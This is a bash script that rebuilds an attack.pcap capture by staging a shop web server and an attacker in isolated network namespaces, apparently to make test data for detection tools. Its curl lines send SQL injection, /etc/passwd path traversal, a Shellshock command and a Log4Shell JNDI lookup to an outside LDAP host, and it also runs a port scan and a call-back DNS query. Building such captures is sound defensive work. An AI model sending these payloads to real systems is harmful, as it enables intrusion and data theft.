#!/usr/bin/env bash
# Makes attack.pcap again: real programs talk to each other in two network namespaces while tcpdump listens.
# Needs root and iproute2, tcpdump, curl, nmap, dnsmasq, dig, python3 (Debian: iproute2 tcpdump curl nmap dnsmasq-base dnsutils python3).
# What happens: a visitor browses the shop; then an attacker scans its ports, tries exploit strings over HTTP,
# and an infected host asks DNS for a call-back name.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=${1:-$here/attack.pcap}
for program in ip tcpdump curl nmap dnsmasq dig python3; do
  command -v "$program" >/dev/null || { echo "capture: $program is missing" >&2; exit 1; }
done
[ "$(id -u)" = 0 ] || { echo "capture: needs root to make network namespaces" >&2; exit 1; }

work=$(mktemp -d) web=shopweb$$ out_ns=shopout$$ pids=()
cleanup() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
  ip netns del "$web" 2>/dev/null || true
  ip netns del "$out_ns" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

ip netns add "$web"; ip netns add "$out_ns"
ip -n "$web" link add shop0 type veth peer name peer0 netns "$out_ns"
ip -n "$web" addr add 10.20.0.10/24 dev shop0
ip -n "$out_ns" addr add 10.20.0.66/24 dev peer0
for at in "$web shop0" "$out_ns peer0"; do
  set -- $at
  ip netns exec "$1" sysctl -qw "net.ipv6.conf.$2.disable_ipv6=1"
  ip -n "$1" link set lo up; ip -n "$1" link set "$2" up
  ip netns exec "$1" ethtool -K "$2" tso off gso off tx off 2>/dev/null || true
done

mkdir "$work/site"; echo '<h1>shop</h1>' >"$work/site/index.html"
(cd "$work/site" && exec ip netns exec "$web" python3 -m http.server 80 --bind 10.20.0.10) >/dev/null 2>&1 & pids+=($!)
ip netns exec "$web" dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=10.20.0.10 --bind-interfaces \
  --address=/#/203.0.113.7 >/dev/null 2>&1 & pids+=($!)
ip netns exec "$web" tcpdump --immediate-mode -q -i shop0 -U -s 0 -w "$work/attack.pcap" 'not arp' 2>"$work/tcpdump.log" & pids+=($!) dump=$!

until grep -q listening "$work/tcpdump.log"; do read -rt 0.1 _ <> <(:) || true; done
from() { ip netns exec "$out_ns" "$@"; }
until from curl -s -o /dev/null http://10.20.0.10/; do read -rt 0.1 _ <> <(:) || true; done
until from dig +time=1 +tries=1 @10.20.0.10 shop.example >/dev/null; do read -rt 0.1 _ <> <(:) || true; done

get() { from curl -s -o /dev/null --max-time 5 "$@" || true; }
get -A 'Mozilla/5.0' http://10.20.0.10/index.html                                     # an ordinary visitor
get -A 'curl/8.5.0' http://10.20.0.10/                                                # a script: informational
get -u shopkeeper:hunter2 http://10.20.0.10/admin                                     # a password in clear text
get -A 'sqlmap/1.8.4#stable (https://sqlmap.org)' "http://10.20.0.10/item?id=1"       # a scanner says its name
get "http://10.20.0.10/item?id=1%20UNION%20SELECT%20password%20FROM%20users"          # SQL injection
get --path-as-is http://10.20.0.10/../../../../etc/passwd                             # path traversal
get -A '() { :;}; /bin/bash -c "id"' http://10.20.0.10/cgi-bin/status                 # Shellshock, CVE-2014-6271
get -H 'X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}' http://10.20.0.10/          # Log4Shell, CVE-2021-44228
from nmap -n -Pn -sS -p 1-120 --max-rate 400 10.20.0.10 >/dev/null                    # a port scan
from dig +time=1 +tries=1 @10.20.0.10 web-0.callback.palisade.test >/dev/null           # a call-back name

before=-1
until [ "$before" = "$(stat -c %s "$work/attack.pcap")" ]; do before=$(stat -c %s "$work/attack.pcap"); read -rt 0.5 _ <> <(:) || true; done
kill -INT "$dump"; wait "$dump" || true
mv "$work/attack.pcap" "$out"
echo "capture: $(tcpdump -qnr "$out" 2>/dev/null | wc -l) packets in $out"
